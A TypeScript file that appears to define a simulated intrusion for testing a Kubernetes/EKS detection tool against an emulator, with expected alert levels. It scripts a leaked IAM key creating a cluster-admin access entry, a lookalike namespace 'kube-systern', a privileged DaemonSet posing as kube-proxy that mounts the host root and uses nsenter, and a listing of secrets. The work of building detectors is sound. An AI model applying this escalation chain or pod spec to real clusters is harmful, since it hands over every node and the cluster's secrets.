import {
  AssociateAccessPolicyCommand,
  CreateAccessEntryCommand,
  EKSClient,
  ListAccessEntriesCommand,
} from '@aws-sdk/client-eks';
import { CreateAccessKeyCommand, CreateUserCommand, IAMClient, PutUserPolicyCommand } from '@aws-sdk/client-iam';
import { clientSettings } from '../../twin/identities.ts';
import type { Twin } from '../../twin/twin.ts';
import { admit, makeRole, roleSession } from '../actors.ts';
import type { Incident } from './incident.ts';
import { NAMESPACES, namespace, workload } from './objects.ts';
import type { AwsActor } from './scene.ts';

const USER = 'terraform';
const ROLE = 'support-diagnostics';
const NAME = 'kube-systern';
const POLICY = 'arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy';

/** The container looks like what a node runs anyway; what it may do is the whole node. */
const nodeAgent = {
  hostPID: true,
  hostNetwork: true,
  tolerations: [{ operator: 'Exists' }],
  containers: [
    {
      name: 'kube-proxy',
      image: 'docker.io/library/alpine:3.20',
      command: ['nsenter', '--target', '1', '--mount', '--pid', '--', 'sh', '-c', 'sleep infinity'],
      securityContext: { privileged: true },
      volumeMounts: [{ name: 'host', mountPath: '/host' }],
    },
  ],
  volumes: [{ name: 'host', hostPath: { path: '/' } }],
};

/** An IAM user without an access entry, whose key was lost. */
async function lostUser(twin: Twin): Promise<AwsActor> {
  const iam = new IAMClient(clientSettings(twin.emulator));
  const { User: user } = await iam.send(new CreateUserCommand({ UserName: USER }));
  const rights = { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'eks:*', Resource: '*' }] };
  const policy = { UserName: USER, PolicyName: 'clusters', PolicyDocument: JSON.stringify(rights) };
  await iam.send(new PutUserPolicyCommand(policy));
  const { AccessKey: key } = await iam.send(new CreateAccessKeyCommand({ UserName: USER }));
  const { AccessKeyId: accessKeyId = '', SecretAccessKey: secretAccessKey = '' } = key ?? {};
  const arn = twin.identities.arn('user', USER);
  return {
    identity: { kind: 'iam-user', username: arn, principalArn: arn, accessKeyId, principalId: user?.UserId ?? '' },
    client: new EKSClient({ ...clientSettings(twin.emulator), credentials: { accessKeyId, secretAccessKey } }),
  };
}

export const lookalikeNamespace: Incident = {
  name: 'lookalike-namespace',
  title: 'An access entry added from outside, and a namespace that looks like kube-system',
  story:
    'Somebody found an access key of the IAM user terraform, which has no right in the cluster but all rights of EKS in ' +
    'the account. With the EKS API alone they make an access entry for a role that never had to do with the cluster, and associate ' +
    'AmazonEKSClusterAdminPolicy with it. As that role they create the namespace kube-systern, one letter off kube-system, ' +
    'with Pod Security set to privileged. A DaemonSet in it, called like a part of Kubernetes, then has the root of every ' +
    'node.',
  kind: 'hostile',
  expect: {
    first: { atLeast: 'CRITICAL' },
    second: { atLeast: 'CRITICAL' },
    told: ['first', 'second'],
    facts: { actor: 'arn:aws:iam::111122223333:role/support-diagnostics', right: 'AmazonEKSClusterAdminPolicy' },
  },
  right: {
    kind: 'right',
    object: `access policy AmazonEKSClusterAdminPolicy of ${ROLE}`,
    what: `The access entry of the role ${ROLE}, made shortly before by the IAM user ${USER}, has an access policy that allows everything.`,
    signs: ['access entry made shortly before', 'not visible in RBAC'],
  },
  async run(scene) {
    const { twin } = scene;
    await makeRole(twin, ROLE);
    const thief = await lostUser(twin);
    const clusterName = twin.emulator.cluster;
    const principalArn = twin.identities.arn('role', ROLE);
    await scene.begin();
    await scene.aws(thief, 'looks who may enter the cluster', {
      eventName: 'ListAccessEntries',
      requestParameters: {},
      readOnly: true,
      send: (eks) => eks.send(new ListAccessEntriesCommand({ clusterName })),
    });
    await scene.aws(
      thief,
      'makes an access entry for a role of its own choice',
      {
        eventName: 'CreateAccessEntry',
        requestParameters: { principalArn, type: 'STANDARD' },
        readOnly: false,
        send: (eks) => eks.send(new CreateAccessEntryCommand({ clusterName, principalArn })),
      },
      {
        kind: 'access-change',
        object: `access entry of ${principalArn}`,
        what: `The IAM user ${USER} let the role ${ROLE} into the cluster.`,
        signs: ['made by somebody who has no access entry', 'shortly before the creation'],
      },
    );
    const accessScope = { type: 'cluster' as const };
    await scene.aws(
      thief,
      'makes that role administrator of the cluster',
      {
        eventName: 'AssociateAccessPolicy',
        requestParameters: { principalArn, policyArn: POLICY, accessScope },
        readOnly: false,
        send: (eks) =>
          eks.send(new AssociateAccessPolicyCommand({ clusterName, principalArn, policyArn: POLICY, accessScope })),
      },
      {
        kind: 'access-change',
        object: `access policy AmazonEKSClusterAdminPolicy of ${principalArn}`,
        what: `The IAM user ${USER} made the role ${ROLE} administrator of the cluster.`,
        signs: ['AmazonEKSClusterAdminPolicy'],
      },
    );
    await admit(twin, ROLE);
    const intruder = {
      ...(await roleSession(twin, ROLE, 'aws-go-sdk-1795460516')),
      from: '127.0.99.9',
      userAgent: 'curl/8.14.1',
    };
    await scene.act(intruder, 'looks at the namespaces', { path: NAMESPACES }, 200);
    await scene.act(
      intruder,
      'looks what runs in kube-system',
      { path: '/apis/apps/v1/namespaces/kube-system/daemonsets' },
      200,
    );
    const { metadata } = namespace(NAME, { 'pod-security.kubernetes.io/enforce': 'privileged' });
    await scene.create(intruder, 'creates a namespace that looks like kube-system', metadata);
    await scene.look('first');

    const body = workload('DaemonSet', NAME, 'kube-proxy-agent', nodeAgent);
    await scene.act(
      intruder,
      'takes every node',
      { method: 'POST', path: `/apis/apps/v1/namespaces/${NAME}/daemonsets`, body },
      201,
      {
        kind: 'workload',
        object: `DaemonSet ${NAME}/kube-proxy-agent`,
        what: "Privileged pods on every node, in the host's process and network namespaces, with the node's root mounted.",
        signs: ['privileged', 'hostPID', 'hostNetwork', 'hostPath /', 'nsenter'],
      },
    );
    await scene.act(intruder, 'reads the secrets of kube-system', { path: `${NAMESPACES}/kube-system/secrets` }, 200, {
      kind: 'secrets',
      object: 'secrets in kube-system',
      what: 'The role listed the secrets of kube-system.',
    });
    await scene.look('second');
  },
};
